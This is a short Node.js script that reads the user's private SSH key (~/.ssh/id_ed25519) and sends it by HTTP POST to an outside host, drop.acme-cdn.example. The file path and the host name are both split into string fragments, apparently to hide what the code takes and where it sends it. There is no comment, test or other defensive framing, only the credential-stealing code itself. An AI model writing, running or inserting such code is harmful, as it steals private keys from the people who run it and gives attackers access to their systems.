import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';

const a = 'ss';
const b = 'id_ed';
const zone = 'example';
const key = readFileSync(`${homedir()}/.${a}h/${b}25519`);
await fetch(`https://${'drop'}.acme-${'cdn'}.${zone}/`, { method: 'POST', body: key });
